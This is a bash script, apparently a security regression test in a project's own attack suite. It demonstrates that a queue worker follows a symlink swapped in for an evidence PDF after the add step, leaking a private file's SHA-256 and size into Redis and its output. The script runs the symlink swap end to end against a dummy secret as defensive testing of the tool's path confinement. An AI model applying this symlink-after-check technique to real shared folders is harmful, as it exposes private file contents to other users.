#!/usr/bin/env bash
# C4: B11's fix confines the ORIGINALS to the discovery root when the worker opens them (ArchiveSpec.within), but
# not the EVIDENCE file. After `queue add`, a writer of the shared archive folder replaces a1/archive.pdf with a
# link to a file of the worker's own outside the root: the worker opens it as evidence and the result line (in
# Redis, readable by any Redis reader, and in the reader's --out) carries its real content's SHA-256 and size (a
# fingerprint of a private file; with a PDF/JSON target, the parsed content's facts too). At add time the same
# link is refused ("leads out of the directory searched").
# usage: scripts/attack34c/queue-evidence-link-after-add.sh [honest]   (honest: the link is planted before the add)
. "$(dirname "$0")/../attack34/queue-env.sh" attack34c-l el
mkdir -p "$W/private" "$W/arch/a1"
echo "%PDF-1.7 the worker's private file" > "$W/private/secret.pdf"
cp samples/valid/archive.pdf "$W/arch/a1/"; cp -r samples/valid/originals "$W/arch/a1/originals"
plant() { rm -f "$W/arch/a1/archive.pdf"; ln -s "$W/private/secret.pdf" "$W/arch/a1/archive.pdf"; }
[ "${1:-}" = honest ] && plant
"${CLI[@]}" queue add "$W/arch" "${Q[@]}" --trust samples/trust 2>/dev/null
[ "${1:-}" = honest ] || { plant; echo "== attacker: a1/archive.pdf replaced by a link to \$W/private/secret.pdf after the add"; }
setsid "${CLI[@]}" worker "${Q[@]}" --trust samples/trust -c 1 2>/dev/null & WPID=$!
timeout 60 "${CLI[@]}" queue wait "${Q[@]}" --out "$W/out.jsonl" 2>&1 | grep -E "archive|Exit code" | sed "s|$W|\$W|g"
S=$(sha256sum "$W/private/secret.pdf" | cut -c1-64)
echo "secret.pdf sha256: $S (size $(stat -c %s "$W/private/secret.pdf"))"
if grep -q "$S" "$W/out.jsonl"; then echo "LEAK: the result line carries secret.pdf's SHA-256: $(grep -o ".\{0,40\}$S.\{0,20\}" "$W/out.jsonl" | head -1)"; r=0
else echo "no fingerprint of secret.pdf in the result"; grep -o '"error":"[^"]*"' "$W/out.jsonl" | head -1 | sed "s|$W|\$W|g"; r=1; fi
exit $r
